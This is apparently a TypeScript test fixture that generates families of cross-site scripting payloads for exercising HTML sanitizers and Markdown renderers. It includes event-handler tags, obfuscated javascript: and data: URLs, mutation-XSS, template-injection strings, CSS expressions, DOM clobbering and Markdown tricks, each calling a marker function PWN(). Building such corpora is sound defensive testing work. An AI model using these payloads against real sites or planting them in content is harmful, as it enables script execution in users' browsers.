// Texts that try to run something, made of the families that sanitizers and front ends have fallen for: payload lists of
// OWASP, PortSwigger, DOMPurify's and Streamdown's tests, and what is special about Markdown. Each would call `PWN`.

const call = 'PWN()';
const image = `<img src=x onerror=${call}>`;

/** All that can be had by one of each. */
function each<A, B>(
  some: readonly A[],
  others: readonly B[],
  join: (one: A, other: B) => string,
): string[] {
  return some.flatMap((one) => others.map((other) => join(one, other)));
}

/** Tags, with the event that needs nobody to set it off, or hardly anybody. */
const handlers = [
  'img src=x|error',
  'img srcset=x|error',
  'image src=x|error',
  'video src=x|error',
  'video><source|error',
  'audio src=x|error',
  'svg|load',
  'svg><animate attributeName=x dur=1s|begin',
  'svg><set attributeName=x|begin',
  'svg><a xlink:href=#x|click',
  'math><mtext|click',
  'body|load',
  'body|pageshow',
  'iframe src=x|load',
  'object data=x|error',
  'embed src=x|load',
  'link rel=stylesheet href=x|error',
  'style|load',
  'script src=x|error',
  'details open|toggle',
  'input autofocus|focus',
  'select autofocus|focus',
  'textarea autofocus|focus',
  'a href=x autofocus tabindex=1|focus',
  'x tabindex=1 autofocus|focusin',
  'x contenteditable autofocus|focus',
  'marquee|start',
  'p style=animation:x|animationstart',
  'p|pointerenter',
  'button popover|beforetoggle',
  'dialog open|close',
  'form|formdata',
  'sse-markdown|click',
  'x-element|scrollend',
];

const attributes: readonly ((event: string) => string)[] = [
  (event) => ` on${event}=${call}`,
  (event) => ` on${event}="${call}"`,
  (event) => ` ON${event.toUpperCase()}='${call}'`,
  (event) => `/on${event}=\`${call}\``,
  (event) => `\nx="y"\ton${event}\n=\n${call} `,
];

/** Ways to write an address so that a check does not see what a browser sees. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `java\tscript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `javascript&colon;${call}`,
  `java&#x0A;script:${call}`,
  `java&Tab;script:${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${call}`,
  `javascript\\:${call}`,
  `javascript%3A${call}`,
  `java\u00adscript:${call}`,
  `ja\u200bvascript:${call}`,
  `javascript://a.example/%0A${call}`,
  `javascript:/*--></title></style>*/${call}`,
  `vbscript:${call}`,
  `livescript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5QV04oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `data:application/xhtml+xml,<script>${call}</script>`,
  `blob:https://a.example/${call}`,
  `filesystem:https://a.example/${call}`,
  `view-source:javascript:${call}`,
  `feed:javascript:${call}`,
  `https:javascript:${call}`,
  `https://a.example/"onmouseover="${call}`,
  `https://a.example/'onmouseover='${call}`,
  `https://a.example/><script>${call}</script>`,
];

const carriers: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `[x](${address} "${call}")`,
  (address) => `![x](${address})`,
  (address) => `[x][a]\n\n[a]: ${address}`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
];

const carryingTags: readonly ((address: string) => string)[] = [
  (address) => `<iframe src="${address}">`,
  (address) => `<form action="${address}"><button>x</button></form>`,
  (address) => `<button formaction="${address}">x</button>`,
  (address) => `<object data="${address}">`,
  (address) => `<embed src="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text>x`,
  (address) => `<math href="${address}">x`,
  (address) => `<svg><use href="${address}#x">`,
  (address) => `<svg><animate attributeName=href values="${address}">`,
  (address) => `<link rel=import href="${address}">`,
];

/** Elements whose content a browser reads in another way: what is text to one parser is a tag to the next. */
const otherContents =
  'title textarea style script xmp iframe noembed noframes noscript plaintext template select'.split(
    ' ',
  );

const mutations: readonly ((tag: string) => string)[] = [
  (tag) => `<${tag}><p title="</${tag}>${image}">`,
  (tag) => `<svg><${tag}><a title="</${tag}>${image}">`,
  (tag) => `<math><mtext><table><mglyph><${tag}><!--</${tag}>${image}`,
  (tag) => `<form><math><mtext></form><form><mglyph><${tag}></math>${image}`,
  (tag) => `<!--<${tag}>-->${image}--!></${tag}>`,
];

/** What template languages, and the library that draws, would take for theirs. */
const templates = [
  ...[`{{${call}}}`, `{{constructor.constructor('${call}')()}}`, `\${${call}}`, `#{${call}}`],
  ...[`<%= ${call} %>`, `[[${call}]]`, `@{${call}}`, `{%raw%}${image}{%endraw%}`, `{${call}}`],
  ...[`<p v-html="'${call}'">`, `<p ng-app ng-init="${call}">`, `<p x-init="${call}">`],
  ...[`<p hx-on:load="${call}">`, `<p data-bind="html: ${call}">`, `<p @click="${call}">`],
  ...['<!--?lit$123456789$-->', '<?lit$123456789$>', '<!--lit-part-->', '?lit$', 'lit$123$'],
  ...[`<p .innerHTML=${image}>`, `<p style="{{${call}}}">`, '<!--lit-node 0-->', '{{lit-0}}'],
];

const styles = [
  ...[`<p style="background:url(javascript:${call})">`, `<p style="width:expression(${call})">`],
  ...[`<p style="behavior:url(x.htc)">`, `<p style="-moz-binding:url(x.xml#x)">`],
  ...[`<style>@import "javascript:${call}";</style>`, `<style>*{x:expression(${call})}</style>`],
  ...['<style>:host{display:none}</style>', '<p class="approve" part="approve" slot="footer">'],
  ...[
    `<link rel=stylesheet href="data:text/css,*{x:expression(${call})}">`,
    '<p style="all:unset">',
  ],
];

/** Names that would stand in the way of the page's own, were elements made of them. */
const names = (
  'attributes body childNodes children cookie customElements defaultView document forms ' +
  'getElementById head innerHTML location nodeName parentNode removeAttribute shadowRoot trustedTypes'
).split(' ');

const clobbers: readonly ((name: string) => string)[] = [
  (name) => `<img name=${name}>`,
  (name) => `<form id=${name}><input name=${name}></form>`,
  (name) => `<a id=${name} href="x:y">`,
  (name) => `[^${name}]\n\n[^${name}]: x`,
  (name) => `# ${name} {#${name}}`,
];

const markdown = [
  ...['[x](https://a.example "x" onclick=PWN())', '[x](https://a.example" onmouseover="PWN())'],
  ...['[a]\n\n[a]: <javascript:PWN()> "title"', '[__proto__]: javascript:PWN()\n\n[__proto__]'],
  ...[
    '![x" onerror="PWN()](https://a.example/x.png)',
    '![x](https://a.example/x.png" onerror="PWN())',
  ],
  ...[
    '```js" onload="PWN()\nx\n```',
    `\`\`\`"><img src=x onerror=PWN()>\nx\n\`\`\``,
    `\`${image}\``,
  ],
  ...[
    `| ${image} |\n|---|\n| <script>PWN()</script> |`,
    `- [ ] ${image}`,
    `# ${image}`,
    `> ${image}`,
  ],
  ...[`x[^1]\n\n[^1]: ${image}`, 'x[^"onclick="PWN()]\n\n[^"onclick="PWN()]: y', `$${image}$`],
  ...[`$$\n${image}\n$$`, `<![CDATA[${image}]]>`, `<?xml ${image}?>`, `<!DOCTYPE ${image}>`],
  ...[
    'a@b.example"onmouseover="PWN()',
    'www.a.example/"onmouseover="PWN()',
    `*${image}*`,
    `~~${image}~~`,
  ],
  ...[
    `[${image}](https://a.example)`,
    `[![x](javascript:PWN())](javascript:PWN())`,
    `<!-->${image}-->`,
  ],
  ...[
    `\\${image}`,
    `&lt;img src=x onerror=PWN()&gt;`,
    `\ufeff${image}`,
    `<\u0000img src=x onerror=PWN()>`,
  ],
  ...[
    '<script>PWN()</script>',
    '<scr<script>ipt>PWN()</script>',
    '<script\n>PWN()</script\n>',
    '<<script>PWN()//',
  ],
];

/** The payloads by family. */
export const xssPayloads: Readonly<Record<string, readonly string[]>> = {
  'event handlers': each(handlers, attributes, (handler, attribute) => {
    const [tag = '', event = ''] = handler.split('|');
    return `<${tag}${attribute(event)}>`;
  }),
  addresses: each(addresses, carriers, (address, carry) => carry(address)),
  'tags with addresses': each(carryingTags, addresses.slice(0, 6), (carry, address) =>
    carry(address),
  ),
  'mutations of what was parsed': each(mutations, otherContents, (mutate, tag) => mutate(tag)),
  templates,
  styles,
  'names of the page': each(clobbers, names, (clobber, name) => clobber(name)),
  Markdown: markdown,
};
